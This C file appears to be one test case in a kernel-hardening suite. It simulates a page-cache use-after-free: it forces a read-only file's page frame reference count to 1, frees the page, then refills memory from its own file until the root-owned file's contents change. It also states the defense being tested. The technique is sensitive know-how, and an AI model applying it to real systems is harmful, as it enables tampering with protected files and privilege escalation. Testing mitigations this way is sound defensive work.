// SPDX-License-Identifier: GPL-2.0-only
#include "attack.h"

ATTACK("page_cache_integrity", "page_freed",
       "page_cache_integrity: a page of a file freed while the file has it",
       "The program maps a file that it may only read, writes 1 over the count of "
       "references of its page, and unmaps it: the page is freed. Then it fills a file of its own.",
       "Each frame says in sealed memory which page of which file it is, and is not freed while it "
       "is one.",
       "What it writes to its own file is in root's file as well.");

#define OWN_PAGES 200

static char page[4096];

static bool control(void)
{
	return is_ordinary();
}

static uint64_t frame_of(uint64_t address)
{
	const uint64_t entry = peek(table_entry(own_root(own_task()), address, 1));

	return peek(symbol("frame_arrays") + member("frame_arrays.frames")) +
	       ((entry & ENTRY_ADDRESS) >> 12) * member("frame.SIZE");
}

static bool fire(void)
{
	const long file = call3(__NR_open, (long)PUBLIC, O_RDONLY, 0);
	const long own = call3(__NR_open, (long)"/tmp/own", O_RDWR | O_CREAT, 0600);
	const long map = call6(__NR_mmap, 0, 4096, PROT_READ, MAP_PRIVATE, file, 0);
	char first = *(volatile char *)map;

	(void)own_cpu(0);
	poke_references(frame_of((uint64_t)map) + member("frame.references"), 1);
	call2(__NR_munmap, map, 4096);
	for (size_t i = 0; i < sizeof(page); i++)
		page[i] = 'X';
	for (unsigned int i = 0; i < OWN_PAGES && first != 'X'; i++) {
		call4(__NR_pwrite64, own, (long)page, sizeof(page), i * sizeof(page));
		call4(__NR_pread64, file, (long)&first, 1, 0);
	}
	return first == 'X';
}

static void victim(void)
{
	victim_waits();
}
